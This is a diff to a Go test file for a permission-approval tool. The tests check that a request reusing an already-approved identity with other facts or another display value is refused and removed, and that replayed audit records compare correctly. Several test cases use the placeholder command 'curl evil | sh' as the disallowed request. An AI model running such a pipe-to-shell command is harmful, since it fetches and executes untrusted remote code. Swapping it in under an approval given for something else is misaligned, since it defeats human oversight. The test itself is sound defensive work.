@@ -5,7 +5,11 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
+	json "github.com/goccy/go-json"
+
+	"github.com/permtui/permtui/internal/inbox"
 	"github.com/permtui/permtui/internal/resolve"
 	"github.com/permtui/permtui/internal/safefs"
 	"github.com/permtui/permtui/internal/wire"
@@ -16,11 +20,26 @@ import (
 // the decision a person made about the first: it is refused, removed and
 // reported, and nothing is recorded or delivered for it (decision 0210).
 func TestARequestReusingADecidedIdentityWithOtherFactsIsRefused(t *testing.T) {
-	const id = "1791279012345-reuse-1"
+	legacy := func(r *wire.Request) *wire.Request { r.AccessIntent = nil; return r }
+	for _, tc := range []struct {
+		name         string
+		first, other *wire.Request
+	}{
+		{"facts", intent(reuseID, "builder", "bash", "npm test"), intent(reuseID, "scout", "bash", "curl evil | sh")},
+		// Only the display value differs (decision 0201).
+		{"legacy", legacy(intent(reuseID, "builder", "bash", "npm test")), legacy(intent(reuseID, "builder", "bash", "curl evil | sh"))},
+	} {
+		t.Run(tc.name, func(t *testing.T) { refusedReuse(t, tc.first, tc.other) })
+	}
+}
+
+const reuseID = "1791279012345-reuse-1"
+
+func refusedReuse(t *testing.T, first, other *wire.Request) {
+	const id = reuseID
 	h := startServer(t, options{})
 	h.judge.set("npm test", ruleVerdict(resolve.Ask, "", "*", "global", ""))
 	h.judge.set("curl evil | sh", ruleVerdict(resolve.Ask, "", "*", "global", ""))
-	first := intent(id, "builder", "bash", "npm test")
 	h.send(first)
 	ask := h.queued(id)
 	if err := h.s.Decide(Decision{Ask: ask.ID, State: wire.StateApproved}); err != nil {
@@ -30,7 +49,6 @@ func TestARequestReusingADecidedIdentityWithOtherFactsIsRefused(t *testing.T) {
 		t.Fatalf("first answer %+v", resp)
 	}
 
-	other := intent(id, "scout", "bash", "curl evil | sh")
 	other.RequesterSessionID = first.RequesterSessionID // the same identity
 	data, err := wire.MarshalRequest(other)
 	if err != nil {
@@ -47,6 +65,9 @@ func TestARequestReusingADecidedIdentityWithOtherFactsIsRefused(t *testing.T) {
 	if !strings.Contains(inv.Reason, "other facts") {
 		t.Errorf("reason %q does not say why", inv.Reason)
 	}
+	if first.AccessIntent == nil && !strings.Contains(inv.Reason, `"npm test"`) {
+		t.Errorf("reason %q does not name the value decided", inv.Reason)
+	}
 	if _, err := os.Stat(path); !os.IsNotExist(err) {
 		t.Errorf("the refused request is still there: %v", err)
 	}
@@ -61,7 +82,7 @@ func TestARequestReusingADecidedIdentityWithOtherFactsIsRefused(t *testing.T) {
 		t.Fatalf("deliveries for the id: %+v", dels)
 	}
 	for _, ev := range h.rec.Snapshot() {
-		if d, ok := ev.(Decided); ok && d.Ask.Request.RequesterAgentName == "scout" {
+		if d, ok := ev.(Decided); ok && d.Ask.Path == path {
 			t.Fatalf("the reused request was answered: %+v", d)
 		}
 	}
@@ -89,5 +110,42 @@ func TestTheSameRequestAgainGetsItsRecordedDecision(t *testing.T) {
 	h.shutdown()
 	if recs := h.auditFor(id); len(recs) != 1 {
 		t.Fatalf("decisions for the id: %+v", recs)
+	}
+}
+
+// A request without facts is compared by what it showed: a second file
+// reusing a decided legacy request's identity with another display value is
+// not the request the person approved (decision 0201), while the same
+// request again, or one decided before the log kept the value, still is.
+func TestALegacyRequestIsComparedByWhatItShowed(t *testing.T) {
+	legacy := func(value string) *wire.Request {
+		r := intent("1796440500000-legdup01-1", "tester", "bash", value)
+		r.AccessIntent = nil
+		return r
+	}
+	s := &Server{cfg: Config{Now: time.Now}}
+	rec := s.record(&pending{Ask: Ask{Arrived: inbox.Arrived{Request: legacy("npm test")}}}, wire.StateApproved, &answer{})
+	line, err := json.Marshal(rec)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var logged AuditRecord // as replay reads it back
+	if err := json.Unmarshal(line, &logged); err != nil {
+		t.Fatal(err)
+	}
+	if !sameFacts(logged, legacy("npm test")) {
+		t.Errorf("the same legacy request again is not the same: %s", line)
+	}
+	if sameFacts(logged, legacy("curl evil | sh")) {
+		t.Errorf("another display value passes as the same request: %s", line)
+	}
+	older := logged
+	older.Value = nil
+	if !sameFacts(older, legacy("npm test")) {
+		t.Errorf("a record written before the value was logged no longer replays")
+	}
+	withFacts := s.record(&pending{Ask: Ask{Arrived: inbox.Arrived{Request: intent("1796440500000-legdup01-2", "tester", "bash", "npm test")}}}, wire.StateApproved, &answer{})
+	if withFacts.Value != nil {
+		t.Errorf("a request with facts logged its display value %q", *withFacts.Value)
 	}
 }
